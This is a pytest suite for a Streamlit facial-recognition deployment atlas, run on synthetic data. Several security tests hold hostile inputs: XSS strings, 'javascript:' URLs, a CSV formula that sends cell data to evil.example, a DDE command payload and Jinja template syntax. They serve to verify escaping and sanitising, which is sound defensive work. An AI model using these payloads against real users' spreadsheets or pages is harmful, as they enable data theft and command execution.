"""The page, driven through Streamlit's AppTest on synthetic data."""

from pathlib import Path

import pytest
import synthetic
from page import map_rows, multiselect, sentence, shown
from streamlit.testing.v1 import AppTest

from components.data import DATA_DIR_ENV

APP = str(Path(__file__).resolve().parent.parent / "app.py")


def open_tab(at, label):
    at.session_state["tab"] = label
    return at.run()


def overview(at):
    return next(h.value for h in at.get("html") if "atlas-overview" in h.value)


def test_page_shows_every_deployment_an_overview_and_a_table(app):
    assert sentence(app) == "Showing 5 of 5 deployments"
    assert "5 deployments in 3 countries" in overview(app) and not app.dataframe
    open_tab(app, "Table")
    assert len(app.dataframe) == 1 and len(app.dataframe[0].value) == 5
    assert app.title[0].value == "Facial Recognition Atlas"
    assert not app.error


@pytest.mark.parametrize(
    "label,value,expected",
    [
        ("Vendor", ["bolt"], "Showing 2 of 5 deployments: vendor Bolt AI"),
        ("Vendor's home country", ["BB"], "Showing 2 of 5 deployments: vendors based in Bland"),
        ("Deployment country", ["AA"], "Showing 2 of 5 deployments: in Aland"),
        ("Sector", ["education"], "Showing 1 of 5 deployments: sector education"),
        ("Status", ["pilot"], "Showing 1 of 5 deployments: status pilot"),
        ("Confidence", ["documented"], "Showing 1 of 5 deployments: confidence documented"),
    ],
)
def test_each_filter_changes_the_count(app, label, value, expected):
    multiselect(app, label).set_value(value).run()
    assert sentence(app) == expected
    assert overview(app).startswith(f"<div class='atlas-overview'><p><strong>{expected.split()[1]} deployments")
    open_tab(app, "Table")
    assert len(app.dataframe[0].value) == int(expected.split()[1])


def test_vendor_options_show_counts_under_other_filters(app):
    multiselect(app, "Deployment country").set_value(["BB"]).run()
    vendor = multiselect(app, "Vendor")
    assert set(vendor.options) == {"Bolt AI", "Cobalt Cloud"}
    assert app.sidebar.caption[0].value == "Under the other filters: Bolt AI 1 · Cobalt Cloud 1"


def test_year_slider_and_search_change_the_count(app):
    app.slider[0].set_value((2012, 2015)).run()
    assert sentence(app) == "Showing 1 of 5 deployments: active in or before 2015"
    app.text_input[0].input("special operator").run()
    assert sentence(app).startswith("Showing 0 of 5 deployments")


def test_empty_result_says_so_and_suggests_a_filter_to_relax(app):
    multiselect(app, "Deployment country").set_value(["CC"]).run()
    multiselect(app, "Sector").set_value(["education"]).run()
    assert "Showing 0 of 5" in sentence(app)
    warning = shown(app.warning[0].value)
    assert "No deployment matches" in warning and "country (would show 1)" in warning


def test_reset_clears_every_filter(app):
    multiselect(app, "Vendor").set_value(["acme"]).run()
    app.text_input[0].input("metro").run()
    assert "Showing 1 of 5" in sentence(app)
    next(b for b in app.button if b.label == "Reset filters").click().run()
    assert sentence(app) == "Showing 5 of 5 deployments"
    assert multiselect(app, "Vendor").value == [] and app.text_input[0].value == ""


def test_play_runs_from_the_first_year_to_the_last_then_stops(app):
    next(b for b in app.button if b.label == "▶ Play").click()
    app.run(timeout=120)  # AppTest follows the play loop's reruns (one per year) until it stops
    assert app.slider[0].value == (2012, 2021)
    assert any(b.label == "▶ Play" for b in app.button)
    assert sentence(app) == "Showing 5 of 5 deployments"


def test_playback_steps_one_year_at_a_time_and_stops_at_the_end():
    from components.sidebar import PLAY_STEP_DUE_KEY, PLAYING_KEY, advance_playback
    from geo.filters import YEARS

    state = {PLAYING_KEY: True, YEARS.key: (2012, 2012)}

    def step():
        state[PLAY_STEP_DUE_KEY] = True
        advance_playback(state, (2012, 2014))

    step()
    assert state[YEARS.key] == (2012, 2013) and state[PLAYING_KEY]
    step()
    step()
    assert state[YEARS.key] == (2012, 2014) and not state[PLAYING_KEY]


def test_play_shows_the_first_year_on_its_own_before_the_first_step():
    from components.sidebar import PLAY_STEP_DUE_KEY, advance_playback, start_or_pause
    from geo.filters import YEARS

    state = {YEARS.key: (2012, 2014)}
    start_or_pause(state, (2012, 2014))
    advance_playback(state, (2012, 2014))  # the run that follows the click
    assert state[YEARS.key] == (2012, 2012)
    state[PLAY_STEP_DUE_KEY] = True  # a second later
    advance_playback(state, (2012, 2014))
    assert state[YEARS.key] == (2012, 2013)


def test_pause_stops_the_timeline_where_it_is():
    from components.sidebar import PLAY_STEP_DUE_KEY, PLAYING_KEY, advance_playback, start_or_pause
    from geo.filters import YEARS

    state = {YEARS.key: (2012, 2014)}
    start_or_pause(state, (2012, 2014))
    state[PLAY_STEP_DUE_KEY] = True
    advance_playback(state, (2012, 2014))
    state[PLAY_STEP_DUE_KEY] = True  # a step was due when the reader pressed Pause
    start_or_pause(state, (2012, 2014))
    advance_playback(state, (2012, 2014))
    assert not state[PLAYING_KEY] and state[YEARS.key] == (2012, 2013)
    start_or_pause(state, (2012, 2014))  # Play again continues from 2013
    advance_playback(state, (2012, 2014))
    assert state[PLAYING_KEY] and state[YEARS.key] == (2012, 2013)


def test_bad_data_is_reported_not_a_stack_trace(data_dir, monkeypatch):
    (data_dir / "deployments.geojson").write_text("{broken")
    monkeypatch.setenv(DATA_DIR_ENV, str(data_dir))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception
    assert "Could not load the data" in shown(at.error[0].value)


def test_only_the_open_tab_is_built(app):
    assert overview(app) and not app.dataframe and not app.get("vega_lite_chart")
    open_tab(app, "Charts")
    assert not app.exception
    assert len(app.get("vega_lite_chart")) == 3 and not app.dataframe
    open_tab(app, "Share & cite")
    assert any("Facial Recognition Atlas" in c.value and "Showing 5 of 5 deployments" in c.value for c in app.code)


def test_vendor_profile_shows_home_ownership_counts_and_countries(app):
    open_tab(app, "Vendor profiles")
    app.selectbox(key="profile_vendor").set_value("bolt").run()
    assert not app.exception
    assert [m.value for m in app.metric] == ["2", "2", "2018"]  # deployments, countries, since
    profile = next(h.value for h in app.get("html") if "atlas-vendor'" in h.value)
    assert "Bolt AI" in profile and "<td>Bland</td>" in profile and "not listed" in profile
    assert any("Deployed in: Aland, Bland" in h.value for h in app.get("html"))
    app.selectbox(key="profile_vendor").set_value("acme").run()
    assert [m.value for m in app.metric] == ["2", "1", "2012"]
    profile = next(h.value for h in app.get("html") if "atlas-vendor'" in h.value)
    assert "State holds 40%" in profile and "<td>2019</td>" in profile and "Acme, AV" in profile


def test_vendor_profile_text_is_escaped():
    from components.details import vendor_profile_html

    hostile = '<script>alert(1)</script><img src=x onerror="x()">'
    html = vendor_profile_html(
        {
            "name": hostile,
            "ownership": hostile,
            "note": hostile,
            "aliases": [hostile],
            "source_url": "javascript:alert(1)",
        },
        {},
    )
    assert "<script>" not in html and "<img" not in html and "javascript:" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def embed_snippet(at):
    """The embed snippets (responsive first, then the fixed sizes) as one text."""
    snippets = [c.value for c in at.code if "<iframe" in c.value]
    assert len(snippets) == 3 and snippets[0].startswith("<div") and "aspect-ratio" in snippets[0], snippets
    assert ['height="600"' in s for s in snippets[1:]] == [True, False]
    return "\n".join(snippets)


def test_embed_code_points_at_the_address_the_reader_gives(app):
    open_tab(app, "Share & cite")
    assert 'src="https://example.org/path/to/facial-recognition-atlas.html"' in embed_snippet(app)
    app.text_input(key="embed_url").input("https://news.example.com/maps/atlas.html?a=1&b=2").run()
    assert 'src="https://news.example.com/maps/atlas.html?a=1&amp;b=2"' in embed_snippet(app)
    assert not [w for w in app.warning if "Not an http(s) address" in w.value]
    app.text_input(key="embed_url").input('javascript:alert("x")').run()
    assert "javascript" not in embed_snippet(app) and "example.org/path/to" in embed_snippet(app)
    assert any("Not an http(s) address" in w.value for w in app.warning)


def test_an_open_record_the_filters_hide_says_so(app):
    app.session_state["selected_id"] = "bb-city"  # as after a click on Bland safe city
    app.run()
    assert any("Bland safe city" in h.value for h in app.get("html"))
    assert not [c for c in app.main.caption if "Not in the current selection" in c.value]
    multiselect(app, "Vendor").set_value(["acme"]).run()
    assert any("Bland safe city" in h.value for h in app.get("html"))
    assert [c for c in app.main.caption if "Not in the current selection" in c.value]


def face_pay_dataset(tmp_path):
    """The synthetic data plus a record announced in 2019 and operational from 2021 (dated by its sources)."""
    features = [*synthetic.deployments(), synthetic.face_pay()]
    return synthetic.write_dataset(tmp_path / "data", features)


def test_the_status_filter_uses_the_status_as_of_the_year_shown(tmp_path, monkeypatch):
    monkeypatch.setenv(DATA_DIR_ENV, str(face_pay_dataset(tmp_path)))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    multiselect(at, "Status").set_value(["announced"]).run()
    assert sentence(at) == "Showing 0 of 6 deployments: status announced"  # it is operational now
    at.slider(key="f_years").set_value((2012, 2020)).run()
    assert sentence(at) == "Showing 1 of 6 deployments: status announced, active in or before 2020"
    multiselect(at, "Status").set_value(["operational"]).run()
    assert 5 not in map_rows(at)  # face pay (the sixth row) was only announced in 2020
    assert sentence(at) == "Showing 2 of 6 deployments: status operational, active in or before 2020"
    at.slider(key="f_years").set_value((2012, 2021)).run()
    assert sentence(at) == "Showing 3 of 6 deployments: status operational"


def test_the_tables_own_csv_download_cannot_run_a_formula(tmp_path, monkeypatch):
    features = synthetic.deployments()
    features[0]["properties"]["name"] = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    features[1]["properties"]["place"] = "+cmd|' /C calc'!A0"
    features[2]["properties"]["operator"] = "@SUM(A1:A9)"
    monkeypatch.setenv(DATA_DIR_ENV, str(synthetic.write_dataset(tmp_path / "data", features)))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    at.session_state["tab"] = "Table"
    at.run()
    table = at.dataframe[0].value
    cells = [str(v) for column in table.columns for v in table[column]]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
    assert "'=HYPERLINK" in " ".join(cells) and "'+cmd" in " ".join(cells)


def test_the_public_address_reaches_the_link_and_the_citation(data_dir, monkeypatch):
    monkeypatch.setenv(DATA_DIR_ENV, str(data_dir))
    monkeypatch.setenv("ATLAS_PUBLIC_URL", "https://atlas.example.org/")
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    multiselect(at, "Vendor").set_value(["bolt"]).run()
    open_tab(at, "Share & cite")
    codes = [c.value for c in at.code]
    assert "https://atlas.example.org/?vendor=bolt" in codes
    assert any(
        c.startswith("Facial Recognition Atlas") and "https://atlas.example.org/?vendor=bolt" in c for c in codes
    )
    assert not [w for w in at.warning if "points at this computer" in w.value]
    assert 'src="https://atlas.example.org/facial-recognition-atlas.html"' in embed_snippet(at)


def test_without_a_public_address_the_share_tab_warns(app):
    open_tab(app, "Share & cite")
    assert any("points at this computer" in w.value and "ATLAS_PUBLIC_URL" in w.value for w in app.warning)


def test_the_share_tab_offers_images_in_every_format_size_and_framing_and_the_timeline(app):
    open_tab(app, "Share & cite")
    assert app.selectbox(key="img_size").options[:2] == ["1600x900 (print, 16:9)", "3200x1800 (print, 16:9, large)"]
    assert "Africa" in app.selectbox(key="img_framing").options
    assert app.selectbox(key="img_style").options == ["Points by vendor", "Countries shaded by count"]
    labels = {
        app.download_button(key=k).label
        for k in ("dl_img_png", "dl_img_svg", "dl_img_pdf", "dl_anim_gif", "dl_anim_mp4")
    }
    assert labels == {"Image (PNG)", "Image (SVG)", "Image (PDF)", "Timeline (GIF)", "Timeline (MP4)"}
    assert not [c for c in app.checkbox if c.key == "img_highlight"]  # no record is open
    app.session_state["selected_id"] = "bb-city"
    app.run()
    assert app.checkbox(key="img_highlight").label == "Highlight the open record"


def test_an_empty_selection_offers_no_timeline(app):
    multiselect(app, "Vendor").set_value(["cobalt"]).run()
    multiselect(app, "Deployment country").set_value(["AA"]).run()
    open_tab(app, "Share & cite")
    assert not app.exception
    assert app.download_button(key="dl_img_png").label == "Image (PNG)"
    assert not [b for b in app.get("download_button") if "Timeline" in b.proto.label]


def test_the_share_tab_offers_the_data_as_an_excel_workbook(app):
    open_tab(app, "Share & cite")
    button = app.download_button(key="dl_xlsx")
    assert button.label == "Download data (Excel)"  # the file itself is made on click; AppTest cannot fetch it


def test_data_that_all_starts_in_one_year_opens_with_a_usable_timeline(tmp_path, monkeypatch):
    features = [synthetic.deployment(f"aa-{i}", 10 + i, 10, year_start=2015) for i in range(3)]
    monkeypatch.setenv(DATA_DIR_ENV, str(synthetic.write_dataset(tmp_path / "data", features)))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception
    assert at.slider(key="f_years").value == (2015, 2016)


def test_the_skip_link_opens_the_table_of_the_same_selection(app):
    multiselect(app, "Vendor").set_value(["bolt"]).run()
    skip = app.button(key="skip_map")
    assert skip.label == "Skip the map: show these 2 records as a table"
    skip.click().run()
    assert not app.exception and app.session_state["tab"] == "Table"
    assert len(app.dataframe) == 1 and len(app.dataframe[0].value) == 2


TEMPLATE_TEXT = "{{ 6 * 7007 }} {% raw %} {# x"  # text that Jinja would read as code: an expression, a tag, a comment


def test_template_syntax_in_vendor_and_country_names_reaches_the_map_as_text(tmp_path, monkeypatch):
    """branca renders each element's script a second time as a Jinja template: names from the data must not
    be read as template code there (it crashed the page)."""
    import copy
    import json

    folder = synthetic.write_dataset(tmp_path / "data")
    vendors = copy.deepcopy(synthetic.VENDORS)
    vendors[0]["name"] = "Acme " + TEMPLATE_TEXT
    synthetic.write_vendors(folder / "vendors.csv", vendors)
    countries = synthetic.countries_geojson()
    countries["features"][0]["properties"]["name"] = "Aland " + TEMPLATE_TEXT
    (folder / "countries.geojson").write_text(json.dumps(countries), encoding="utf-8")
    monkeypatch.setenv(DATA_DIR_ENV, str(folder))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception, at.exception
    script = json.loads(at.get("component_instance")[0].proto.json_args)["feature_group"]
    assert json.dumps("Acme " + TEMPLATE_TEXT) in script and json.dumps("Aland " + TEMPLATE_TEXT) in script
    assert "42042" not in script


def test_a_map_layer_rendered_whole_keeps_template_syntax_as_text():
    import folium

    from components.map import DeploymentMarkers

    fmap = folium.Map()
    group = folium.FeatureGroup(name="Deployments").add_to(fmap)
    DeploymentMarkers("AA==", [{"name": TEMPLATE_TEXT, "color": "#000000"}]).add_to(group)
    html = fmap.get_root().render()
    assert '"name":"{{ 6 * 7007 }} {% raw %} {# x"' in html and "42042" not in html
